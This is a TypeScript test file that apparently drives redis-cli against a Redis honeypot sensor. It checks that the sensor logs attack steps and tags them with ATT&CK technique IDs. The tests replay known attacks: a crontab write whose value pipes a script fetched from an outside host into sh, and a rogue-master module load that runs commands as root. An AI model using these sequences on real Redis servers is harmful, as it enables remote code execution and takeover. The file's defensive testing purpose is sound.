/** The Redis decoy as redis-cli sees it. */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { promisify } from 'node:util';
import { type Sensor, startSensor, without } from './sensor.ts';

const execute = promisify(execFile);

describe('redis-cli', { skip: without('redis-cli') }, () => {
  let sensor: Sensor;

  before(async () => {
    sensor = await startSensor(['redis']);
  });
  after(() => sensor[Symbol.asyncDispose]());

  async function cli(...args: string[]): Promise<string> {
    const all = ['-h', '127.0.0.1', '-p', String(sensor.port('redis')), ...args];
    const { stdout } = await execute('redis-cli', all, { timeout: 20_000, maxBuffer: 8 << 20 });
    return stdout;
  }

  it('sets up a crontab and finds each step taken', async () => {
    const line = '\n*/1 * * * * curl -s http://198.51.100.7/init.sh | sh\n';
    assert.match(await cli('info', 'server'), /^redis_version:7\.0\.15\r$/m);
    assert.equal(await cli('config', 'set', 'dir', '/var/spool/cron/crontabs'), 'OK\n');
    assert.equal(await cli('config', 'set', 'dbfilename', 'root'), 'OK\n');
    assert.equal(await cli('set', 'x', line), 'OK\n');
    assert.equal(await cli('save'), 'OK\n');

    const saved = await sensor.event('redis.save');
    assert.ok(saved.attack.includes('T1053.003'));
    assert.ok(saved.norm.urls.includes('http://198.51.100.7/init.sh'), JSON.stringify(saved.norm));
    const [artefact] = saved.data!.artefacts as { name: string; sha256: string }[];
    assert.equal(artefact!.name, '/var/spool/cron/crontabs/root');
    const set = await sensor.event('redis.command', ({ data }) => data?.command === 'set');
    assert.ok(set.norm.urls.includes('http://198.51.100.7/init.sh'));
    const config = await sensor.event('redis.config.set');
    assert.deepEqual(config.data!.parameters, { dir: '/var/spool/cron/crontabs' });
    assert.deepEqual(config.norm.commands, ['CONFIG SET dir /var/spool/cron/crontabs']);
    assert.ok(set.attack.includes('T1053.003') && config.attack.includes('T1053.003'));
  });

  it('runs a command by a module that a master should have left', async () => {
    await cli('slaveof', '203.0.113.9', '21000');
    await cli('config', 'set', 'dbfilename', 'exp.so');
    assert.equal(await cli('module', 'load', './exp.so'), 'OK\n');
    assert.match(await cli('system.exec', 'id'), /uid=0\(root\)/);
    const ran = await sensor.event('redis.module.exec');
    assert.deepEqual(ran.norm.commands, ['id']);
    await cli('slaveof', 'no', 'one');
    const follow = await sensor.event('redis.replicaof', ({ data }) => data?.master !== null);
    assert.ok(follow.norm.hosts.includes('203.0.113.9'));
  });

  it('is helped, fetches a snapshot and scans keys as from a real server', async () => {
    const file = join(sensor.folder, 'dump.rdb');
    await cli('--rdb', file);
    assert.equal(readFileSync(file).subarray(0, 9).toString(), 'REDIS0010');
    assert.notEqual((await cli('--scan')).trim(), '');
    assert.match(await cli('-3', 'command', 'docs', 'get'), /Get the value of a key/);
    assert.match(await cli('--bigkeys'), /Sampled \d+ keys in the keyspace!/);
    assert.match(await cli('--memkeys'), /Sampled \d+ keys in the keyspace!/);
    assert.equal(await cli('eval', 'return 1', '0'), '1\n');
  });
});
